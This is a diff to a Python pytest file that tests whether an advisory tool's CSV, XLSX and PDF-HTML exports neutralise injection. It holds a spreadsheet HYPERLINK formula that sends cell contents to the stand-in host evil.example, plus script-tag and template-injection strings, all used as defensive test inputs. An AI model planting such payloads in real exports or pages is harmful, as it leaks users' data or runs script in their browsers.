@@ -8,6 +8,7 @@ import json
 import re
 import shutil
 import subprocess
+from dataclasses import dataclass
 from typing import Any
 
 import pytest
@@ -18,7 +19,8 @@ from advisor.model.errors import InputError
 from advisor.model.facts import TEXT, Assessment, parse_assessment
 from advisor.model.plan import Plan
 from advisor.model.vocabulary import Language
-from advisor.output.export import FORMATS, export
+from advisor.output.export import to_html
+from advisor.output.formats import FORMATS, ExportFormat, export
 from advisor.planning.planner import make_plan
 
 # OWASP's list of characters that make a spreadsheet read a cell as a formula.
@@ -52,24 +54,83 @@ def _xlsx_cells(data: bytes) -> list[Any]:
     return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
 
 
+@dataclass(frozen=True)
+class SheetCell:
+    sheet: str
+    column: str
+    text: str
+    live: bool  # a spreadsheet evaluates it, on opening or once a person edits the cell
+
+
+def _read_csv(data: bytes) -> list[SheetCell]:
+    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
+    return [
+        SheetCell("csv", str(column), text, live=text.startswith(TRIGGERS))
+        for row in rows
+        for column, text in enumerate(row)
+    ]
+
+
+def _read_xlsx(data: bytes) -> list[SheetCell]:
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(data))
+    return [
+        SheetCell(
+            sheet.title,
+            cell.column_letter,
+            str(cell.value),
+            # XML reads a CR back as a line feed: a cell written starting with one starts with that
+            live=cell.data_type == "f"
+            or (str(cell.value).startswith((*TRIGGERS, "\n")) and not cell.quotePrefix),
+        )
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value is not None
+    ]
+
+
+# How each tabular format is read back, as a spreadsheet would open it.
+READERS = {"csv": _read_csv, "xlsx": _read_xlsx}
+TABULAR = [spec.name for spec in FORMATS.values() if spec.tabular]
+# Every text of the plan that comes from the answers or the rule files (group ids changed the same
+# way wherever they are used, so that the plan still holds together).
+HOSTILE_KEYS = ("organisation", "name", "title", "text", "rule", "source", "version", "id", "group")
+MARK = 'HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+def _hostile(value: Any, trigger: str) -> Any:
+    if isinstance(value, dict):
+        return {
+            k: f"{trigger}{MARK}{v}" if k in HOSTILE_KEYS and isinstance(v, str) else _hostile(v, trigger)
+            for k, v in value.items()
+        }
+    if isinstance(value, list):
+        return [_hostile(v, trigger) for v in value]
+    return value
+
+
+def test_every_tabular_format_is_read_back_here() -> None:
+    """A new tabular format needs its reader above, so that the next test covers it."""
+    assert set(TABULAR) == set(READERS)
+
+
 @pytest.mark.parametrize("trigger", TRIGGERS)
+@pytest.mark.parametrize("kind", TABULAR)
 def test_no_cell_of_any_tabular_export_is_a_formula(
-    contoso: Assessment, engine: Engine, trigger: str
+    contoso: Assessment, engine: Engine, kind: str, trigger: str
 ) -> None:
-    formula = trigger + 'HYPERLINK("http://evil.example/?x="&A1,"Click")'
-    plan = _plan(contoso, engine, lambda text: formula)
+    with engine.version() as compiled:
+        ordinary = make_plan(contoso, compiled, "en")
+    plan = Plan.model_validate(_hostile(ordinary.model_dump(mode="json"), trigger))
 
-    cells = _xlsx_cells(export(plan, "xlsx"))
-    assert [c.coordinate for c in cells if c.data_type == "f"] == []
-    texts = [c.value for c in cells if isinstance(c.value, str)]
-    assert sum("HYPERLINK" in t for t in texts) > 20  # the names and texts are all there, as text
-    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
-    # Kept as written, and marked to stay text even when a person edits the cell.
-    assert [c.coordinate for c in cells if str(c.value).startswith(TRIGGERS) and not c.quotePrefix] == []
-
-    rows = list(csv.reader(io.StringIO(export(plan, "csv").decode("utf-8-sig"))))
-    assert sum("HYPERLINK" in cell for row in rows for cell in row) > 5
-    assert [cell for row in rows for cell in row if cell.startswith(TRIGGERS)] == []
+    cells = READERS[kind](export(plan, kind))
+    assert [f"{c.sheet}!{c.column}: {c.text!r}" for c in cells if c.live] == []
+    hostile = [c for c in cells if MARK in c.text]
+    assert {c.sheet for c in hostile} == {c.sheet for c in cells}  # every sheet carries it
+    starts = (trigger + MARK, trigger.replace("\r", "\n") + MARK)  # XML reads a CR back as a line feed
+    assert any(c.text.lstrip("'").startswith(starts) for c in hostile)  # at a cell's start too
 
 
 def test_a_neutralised_cell_keeps_its_text_after_the_quote(contoso: Assessment, engine: Engine) -> None:
@@ -95,6 +156,25 @@ def test_stored_text_with_control_characters_still_exports(
         texts = [c.value for c in _xlsx_cells(data) if isinstance(c.value, str)]
         assert any(t.startswith("A\ufffdB\ufffdC\ufffdD\ufffdE") for t in texts)
         assert not any(re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", t) for t in texts)
+
+
+@pytest.mark.parametrize("spec", FORMATS.values(), ids=list(FORMATS))
+def test_a_format_is_binary_exactly_when_its_writer_writes_bytes(
+    contoso: Assessment, engine: Engine, spec: ExportFormat
+) -> None:
+    """The registry's `binary` is what the command line refuses to print and OpenAPI calls binary."""
+    body = spec.write(_plan(contoso, engine, lambda text: text))
+    assert isinstance(body, bytes) == spec.binary
+
+
+def test_the_pdf_html_shows_every_text_as_written(contoso: Assessment, engine: Engine) -> None:
+    attack = "<script>alert(1)</script> {{ 7 * 7 }} {% raw %}"
+    plan = _plan(contoso, engine, lambda text: f"{attack} {text}", language="sv")
+    page = to_html(plan)
+    assert "<script" not in page
+    assert page.count("&lt;script&gt;alert(1)&lt;/script&gt; {{ 7 * 7 }} {% raw %}") > 20
+    assert "Distributionsplan för &lt;script&gt;" in page
+    assert "content: 'Sida ' counter(page) ' av ' counter(pages)" in page
 
 
 def _html_of(markdown: str) -> str:
